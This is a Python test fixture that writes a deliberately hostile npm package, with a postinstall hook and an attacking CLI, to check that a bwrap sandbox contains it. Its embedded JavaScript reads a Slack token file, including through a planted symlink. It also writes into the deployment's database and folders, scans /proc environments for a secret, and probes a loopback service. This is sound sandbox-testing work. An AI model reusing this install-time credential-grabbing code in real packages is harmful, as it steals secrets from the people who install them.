"""A hostile conformance-suite version, made as a suite of our own (bench/fakes/conformance_suite.py: shaped like
the real one, `dist/index.js` as its bin, `requirements/<set>.yaml`) with attacks added.

It attacks as a suite version published by someone else could: its `postinstall` (run by npm at install) and its
CLI (run against every server) try to read the Slack token file (directly, and through a link planted in its own
files), read the config, create a table in the state database, write into the state, runs and environments
folders, find a host process's secret in /proc, and reach a service on the host's loopback. Each writes what it
managed into a mark in the one folder it may write (`attack-postinstall.json` in its install folder,
`attack-cli.json` in its output folder), which the tests read back before checking the effects.
"""

from __future__ import annotations

import contextlib
import json
import secrets
import socket
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.fakes import conformance_suite as fake_suite
from tests.fakes.conformance_suite import PACKAGE as PACKAGE
from tests.fakes.conformance_suite import pack as pack

ATTACKS = (
    "token",
    "token_link",
    "config",
    "state_db",
    "state_folder",
    "runs",
    "envs",
    "host_proc",
    "host_loopback",
)
"""What every hostile part tries (the CLI also reads the link its postinstall planted: `planted_link`)."""


@dataclass(frozen=True)
class Targets:
    """What the attacks aim at: the deployment's files and a host process holding a secret in its environment."""

    token: Path
    config: Path
    db: Path
    runs: Path
    envs: Path
    host_pid: int
    canary: str
    """A value only the host process's environment holds."""
    host_port: int
    """A service on the host's loopback."""

    def to_json(self) -> str:
        return json.dumps(
            {
                "TOKEN": str(self.token),
                "CONFIG": str(self.config),
                "DB": str(self.db),
                "STATE": str(self.db.parent),
                "RUNS": str(self.runs),
                "ENVS": str(self.envs),
                "HOST_PID": self.host_pid,
                "CANARY": self.canary,
                "HOST_PORT": self.host_port,
            }
        )


ATTACK_JS = """
const REPORT = {{ ran: true, pid: process.pid, uid: process.getuid() }};
async function attempt(name, fn) {{
  try {{ REPORT[name] = "DONE: " + String(await fn()).slice(0, 500); }}
  catch (e) {{ REPORT[name] = "STOPPED: " + String(e && e.message).slice(0, 500); }}
}}
function write(file) {{
  // Where the file landed, as this process's mount namespace has it: the mount holding its folder.
  fs.writeFileSync(file, "x");
  const dir = path.dirname(file);
  let landed = {{ file, point: "", type: "?", dev: fs.statSync(dir).dev }};
  for (const line of fs.readFileSync("/proc/self/mountinfo", "utf8").split("\\n")) {{
    const fields = line.split(" ");
    const point = (fields[4] || "").replace(/\\\\040/g, " ");
    const inside = dir === point || dir.startsWith(point === "/" ? "/" : point + "/");
    if (inside && point.length >= landed.point.length) {{
      landed = {{ ...landed, point, type: fields[fields.indexOf("-") + 1] }};
    }}
  }}
  return "written " + JSON.stringify(landed);
}}
async function attack(T, mine) {{
  await attempt("token", () => fs.readFileSync(T.TOKEN, "utf8"));
  await attempt("token_link", () => {{
    const link = path.join(mine, "token-link");
    try {{ fs.unlinkSync(link); }} catch {{}}
    fs.symlinkSync(T.TOKEN, link);
    return fs.readFileSync(link, "utf8");
  }});
  await attempt("config", () => fs.readFileSync(T.CONFIG, "utf8"));
  await attempt("state_db", async () => {{
    const {{ DatabaseSync }} = await import("node:sqlite");
    new DatabaseSync(T.DB).exec("create table pwned (x text)");
    return "table written";
  }});
  await attempt("state_folder", () => write(path.join(T.STATE, "pwned.txt")));
  await attempt("runs", () => write(path.join(T.RUNS, "pwned.txt")));
  await attempt("envs", () => write(path.join(T.ENVS, "pwned.txt")));
  await attempt("host_proc", () => {{
    let seen = 0;
    for (const pid of fs.readdirSync("/proc").filter((p) => /^\\d+$/.test(p))) {{
      seen += 1;
      try {{ if (fs.readFileSync("/proc/" + pid + "/environ", "latin1").includes(T.CANARY)) return "found in " + pid; }}
      catch {{}}
    }}
    throw new Error("the secret is in no environment of the " + seen + " processes in sight");
  }});
  await attempt("host_loopback", () => new Promise((ok, no) => {{
    const s = net.connect(T.HOST_PORT, "127.0.0.1", () => {{ s.destroy(); ok("connected"); }});
    s.on("error", no);
    setTimeout(() => no(new Error("no answer")), 3000);
  }}));
}}
"""

CLI_PRELUDE = """
const T = {targets};
{attack_js}
await attack(T, out);
await attempt("planted_link", () => fs.readFileSync(path.join(here, "token-link"), "utf8"));
fs.writeFileSync(path.join(out, "attack-cli.json"), JSON.stringify(REPORT));
"""
"""Runs in the CLI before it judges the server (`here` is its dist/, `out` its output folder)."""

POSTINSTALL_JS = """
const fs = require("fs"), net = require("net"), path = require("path");
const T = {targets};
{attack_js}
attack(T, path.join(__dirname, "dist")).then(() => {{
  fs.writeFileSync(path.join(process.env.INIT_CWD || __dirname, "attack-postinstall.json"), JSON.stringify(REPORT));
}});
"""


def write_suite(folder: Path, version: str, sets: dict[str, list[str]], targets: Targets | None = None) -> Path:
    """The package's tree: benign without `targets`, hostile with them (a postinstall, and attacks in its CLI)."""
    if targets is None:
        return fake_suite.write_suite(folder, version, sets)
    attack_js = ATTACK_JS.format()
    prelude = CLI_PRELUDE.format(targets=targets.to_json(), attack_js=attack_js)
    postinstall = POSTINSTALL_JS.format(targets=targets.to_json(), attack_js=attack_js)
    return fake_suite.write_suite(folder, version, sets, prelude=prelude, postinstall=postinstall)


def node_server(folder: Path, name: str) -> dict[str, object]:
    """A server of team-declared build (`language: other`) on Node's own http: it answers every request."""
    fake_suite.write_node_server(folder)
    return {
        "name": name,
        "sdk": "python",
        "language": "other",
        "path": str(folder),
        "transport": "http",
        "start": ["node", "server.js", "--port", "{port}"],
        "env": {"SERVER_NAME": name},
        "baseline_sdk_version": "2.3.0",
        "requirements": ["2025-11-25"],
        "timeouts": {"install": 120, "start": 30, "suite": 60, "snapshot": 120},
    }


@contextlib.contextmanager
def host_service() -> Iterator[int]:
    """A service listening on the host's loopback (the health port, a local fake): its port."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    try:
        yield int(listener.getsockname()[1])
    finally:
        listener.close()


@contextlib.contextmanager
def host_secret() -> Iterator[tuple[int, str]]:
    """A process of the host with a secret in its environment, as the watcher holds its own: (pid, secret)."""
    canary = "canary-" + secrets.token_hex(8)
    proc = subprocess.Popen(["sleep", "600"], env={"PATH": "/usr/bin:/bin", "MCP_WATCHER_TEST_SECRET": canary})
    try:
        yield proc.pid, canary
    finally:
        proc.kill()
        proc.wait()


def read_mark(path: Path) -> dict[str, str]:
    """A hostile part's mark: proof that it ran, and what it managed."""
    assert path.is_file(), f"the hostile code left no mark at {path}: it did not run"
    mark: dict[str, str] = json.loads(path.read_text(encoding="utf-8"))
    assert mark.get("ran") is True, mark
    return mark


def assert_stopped(mark: dict[str, str], *extra: str) -> None:
    """Every attack of the mark failed, or (a write) landed in the room's own scratch (`assert_in_room_scratch`)."""
    for name in (*ATTACKS, *extra):
        value = str(mark.get(name, ""))
        if name in WRITES and value.startswith(WRITTEN):
            assert_in_room_scratch(name, value.removeprefix(WRITTEN))
        else:
            assert value.startswith("STOPPED"), (name, mark)


WRITES = ("state_folder", "runs", "envs")
"""The attacks that write a file into a deployment folder."""
WRITTEN = "DONE: written "
ROOM_SCRATCH = ("/", "/tmp")
"""The room's own tmpfs mounts: bwrap's new root and its `--tmpfs /tmp` (sandbox.py), gone when the room ends."""


def assert_in_room_scratch(name: str, landed_json: str) -> None:
    """A write that succeeded went onto a tmpfs of the room's own, not into the deployment's folder: the folder
    it wrote into is one bwrap made on the way to a bind (the folders on the way to an install folder, when the
    watcher is not root the room's user owns them: tmpfs, another device than the host's folder), and the file is
    not on the host."""
    landed = json.loads(landed_json)
    host_file = Path(landed["file"])
    assert landed["type"] == "tmpfs" and landed["point"] in ROOM_SCRATCH, (name, landed)
    assert not host_file.exists(), (name, f"{host_file} is on the host")
    host_folder = next(p for p in host_file.parents if p.exists())
    assert host_folder.stat().st_dev != landed["dev"], (name, landed, f"the same device as the host's {host_folder}")
